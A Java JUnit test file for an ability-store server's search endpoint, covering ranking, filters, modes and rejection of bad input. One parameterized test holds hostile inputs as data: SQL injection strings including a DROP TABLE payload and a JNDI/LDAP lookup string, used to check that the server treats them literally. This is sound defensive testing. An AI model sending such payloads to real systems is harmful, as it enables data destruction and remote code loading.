package dev.abilitystore.server;

import static dev.abilitystore.server.AbilityEndpointsTest.fields;
import static dev.abilitystore.server.BadInputTest.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.abilitystore.Ability;
import dev.abilitystore.AbilityQuery;
import dev.abilitystore.postgres.testing.PostgresDatabase;
import dev.abilitystore.server.TestServer.Reply;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code POST /v1/search} end to end: ranking, filters, modes and refused requests. */
class SearchEndpointTest {
  @RegisterExtension static final PostgresDatabase database = new PostgresDatabase();
  @TempDir static Path dataDirectory;
  private static TestServer server;

  @BeforeAll
  static void start() {
    server = TestServer.start(dataDirectory, database.config(), ServerConfig.defaults());
    Reply stored = server.post("/v1/abilities", """
        {"abilities": [
          {"ability_id": "weather-forecast", "ability_name": "Weather forecast", "service_name": "weather",
           "description": "Hourly weather forecast with temperature and rain for a city"},
          {"ability_id": "github-get-user", "ability_name": "Get GitHub user", "service_name": "github",
           "description": "Fetches a GitHub user's public profile by username"},
          {"ability_id": "github-create-issue", "ability_name": "Create GitHub issue", "service_name": "github",
           "description": "Opens an issue in a GitHub repository",
           "dynamic_header_keys": ["api.github.com::authorization"]},
          {"ability_id": "stripe-create-customer", "ability_name": "Create Stripe customer",
           "service_name": "stripe", "description": "Creates a customer for payments",
           "dynamic_header_keys": ["api.stripe.com::authorization"]}
        ]}""");
    assertThat(stored.status()).as(stored.toString()).isEqualTo(200);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void search_text_ranksTheMatchingAbilityFirstWithoutEmbeddings() {
    Reply reply = server.post("/v1/search", "{\"query\": \"weather forecast for a city\", \"k\": 3}");

    assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
    JsonNode json = reply.json();
    assertThat(ids(reply).get(0)).isEqualTo("weather-forecast");
    assertThat(json.get("count").asInt()).isEqualTo(json.get("results").size()).isLessThanOrEqualTo(3);
    assertThat(json.get("degraded").asBoolean()).isFalse();
    assertThat(json.get("mode").asText()).isEqualTo("hybrid");
    assertThat(json.has("took_ms")).isTrue();
    JsonNode first = json.get("results").get(0);
    assertThat(first.get("score").asDouble()).isBetween(0.0, 1.0);
    assertThat(first.get("ability").has("embedding")).isFalse();
    assertThat(first.get("ability").get("service_name").asText()).isEqualTo("weather");
  }

  @Test
  void search_eachMode_answersInThatMode() {
    for (String mode : List.of("vector", "keyword", "hybrid")) {
      Reply reply = server.post("/v1/search", "{\"query\": \"GitHub user profile\", \"mode\": \"" + mode + "\"}");

      assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
      assertThat(reply.json().get("mode").asText()).isEqualTo(mode);
      assertThat(ids(reply).get(0)).isEqualTo("github-get-user");
    }
  }

  @Test
  void search_vector_findsTheAbilityWithThatEmbeddingFirst() {
    Ability stored = server.store().get("stripe-create-customer").orElseThrow();
    String vector = IntStream.range(0, TestServer.DIMENSION)
        .mapToObj(i -> Float.toString(stored.embedding().get(i))).collect(Collectors.joining(",", "[", "]"));

    Reply reply = server.post("/v1/search", "{\"vector\": " + vector + ", \"k\": 2}");

    assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
    assertThat(reply.json().get("mode").asText()).isEqualTo("vector");
    assertThat(ids(reply).get(0)).isEqualTo("stripe-create-customer");
    assertThat(reply.json().get("results").get(0).get("score").asDouble()).isGreaterThan(0.99);
  }

  @Test
  void search_filters_applyBeforeRanking() {
    assertThat(ids(server.post("/v1/search", "{\"query\": \"weather\", \"service_name\": \"github\"}")))
        .containsExactlyInAnyOrder("github-get-user", "github-create-issue");
    assertThat(ids(server.post("/v1/search", "{\"query\": \"create\", \"service_name\": [\"github\", \"stripe\"], "
        + "\"dynamic_headers_required\": true}")))
        .containsExactlyInAnyOrder("github-create-issue", "stripe-create-customer");
    assertThat(ids(server.post("/v1/search", "{\"query\": \"create\", \"dynamic_headers_required\": false}")))
        .doesNotContain("github-create-issue", "stripe-create-customer");
  }

  @Test
  void search_badFields_are400NamingEach() {
    Reply reply = server.post("/v1/search",
        "{\"query\": \"x\", \"k\": 0, \"mode\": \"fuzzy\", \"service_name\": 3, \"limit\": 5}");

    assertProblem(reply, 400, "invalid-request");
    assertThat(fields(reply)).containsExactlyInAnyOrder("k", "mode", "service_name", "limit");
    assertThat(fields(server.post("/v1/search", "{\"query\": \"x\", \"k\": \"ten\"}"))).containsExactly("k");
    assertThat(fields(server.post("/v1/search", "{\"query\": \"x\", \"k\": 1001}"))).containsExactly("k");
    assertThat(fields(server.post("/v1/search", "{\"query\": 5}"))).containsExactly("query");
    assertThat(fields(server.post("/v1/search", "{\"query\": \"x\", \"dynamic_headers_required\": \"no\"}")))
        .containsExactly("dynamic_headers_required");
  }

  @Test
  void search_withoutQueryOrVector_is400NamingQuery() {
    assertThat(fields(server.post("/v1/search", "{}"))).containsExactly("query");
    assertThat(fields(server.post("/v1/search", "{\"query\": \"   \"}"))).containsExactly("query");
    assertThat(fields(server.post("/v1/search", "{\"vector\": " + unitVector() + ", \"mode\": \"keyword\"}")))
        .containsExactly("query");
  }

  @Test
  void search_badVectors_are400NamingTheVector() {
    assertThat(fields(server.post("/v1/search", "{\"vector\": [0.1, 0.2]}"))).containsExactly("vector");
    assertThat(fields(server.post("/v1/search", "{\"vector\": [\"a\"]}"))).containsExactly("vector[0]");
    assertThat(fields(server.post("/v1/search", "{\"vector\": 7}"))).containsExactly("vector");
    String zeros = IntStream.range(0, TestServer.DIMENSION).mapToObj(i -> "0")
        .collect(Collectors.joining(",", "[", "]"));
    assertThat(fields(server.post("/v1/search", "{\"vector\": " + zeros + "}"))).containsExactly("vector");
    String overflowing = unitVector().replaceFirst("\\[[^,]+,", "[1e39,");
    assertThat(fields(server.post("/v1/search", "{\"vector\": " + overflowing + "}"))).containsExactly("vector[0]");
    assertProblem(server.post("/v1/search", "{\"vector\": [NaN]}"), 400, "malformed-json");
  }

  @Test
  void search_malformedOrMissingBody_is400() {
    assertProblem(server.post("/v1/search", ""), 400, "malformed-json");
    assertProblem(server.post("/v1/search", "{\"query\": "), 400, "malformed-json");
    assertProblem(server.post("/v1/search", "[\"query\"]"), 400, "malformed-json");
    assertProblem(server.post("/v1/search", "{\"query\": \"a\"} {}"), 400, "malformed-json");
  }

  @ParameterizedTest
  @ValueSource(strings = {"' OR '1'='1", "'; DROP TABLE abilities; --", "%", "_", "\\", "*", "*:*",
      "service_name:* OR ability_id:*", "\") OR (\"", "[* TO *]", "name:github~2", "%' OR 1=1 --", "?", "$1",
      "${jndi:ldap://example.invalid/a}"})
  void injectionStrings_inEveryFilterAndQuery_areTakenLiterally(String injection) {
    String json = quote(injection);

    Reply byQuery = server.post("/v1/search", "{\"query\": " + json + ", \"mode\": \"keyword\"}");
    Reply byHybridQuery = server.post("/v1/search", "{\"query\": " + json + "}");
    Reply byService = server.post("/v1/search", "{\"query\": \"github\", \"service_name\": " + json + "}");
    Reply listByText = server.get("/v1/abilities?q=" + AbilityEndpointsTest.encode(injection));
    Reply listByService = server.get("/v1/abilities?service_name=" + AbilityEndpointsTest.encode(injection));

    assertThat(byQuery.status()).as(byQuery.toString()).isEqualTo(200);
    assertThat(byHybridQuery.status()).as(byHybridQuery.toString()).isEqualTo(200);
    assertThat(ids(byService)).isEmpty();
    assertThat(AbilityEndpointsTest.ids(listByText)).isEmpty();
    assertThat(AbilityEndpointsTest.ids(listByService)).isEmpty();
    Reply byCursor = server.get("/v1/abilities?cursor=" + AbilityEndpointsTest.encode(injection));
    assertThat(byCursor.status()).as(byCursor.toString()).isEqualTo(400);
    assertThat(fields(byCursor)).containsExactly("cursor");
    Reply byIssuedCursor = server.get("/v1/abilities?cursor=" + AbilityQuery.cursorAfter(injection));
    assertThat(byIssuedCursor.status()).as(byIssuedCursor.toString()).isEqualTo(200);
    assertThat(AbilityEndpointsTest.ids(server.get("/v1/abilities"))).hasSize(4);
    assertThat(database.queryLong("SELECT count(*) FROM abilities")).isEqualTo(4);
  }

  @Test
  void controlCharacters_inFilters_are400() {
    assertThat(fields(server.get("/v1/abilities?q=a%00b"))).containsExactly("q");
    assertThat(fields(server.get("/v1/abilities?service_name=a%00b"))).containsExactly("service_name");
    assertThat(fields(server.post("/v1/search", "{\"query\": \"x\", \"service_name\": \"a\\u0000b\"}")))
        .containsExactly("service_name");
  }

  private static String unitVector() {
    return IntStream.range(0, TestServer.DIMENSION).mapToObj(i -> i == 0 ? "1" : "0")
        .collect(Collectors.joining(",", "[", "]"));
  }

  private static String quote(String text) {
    return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
  }

  private static List<String> ids(Reply reply) {
    assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
    List<String> ids = new ArrayList<>();
    reply.json().get("results").forEach(result -> ids.add(result.get("ability").get("ability_id").asText()));
    return ids;
  }
}
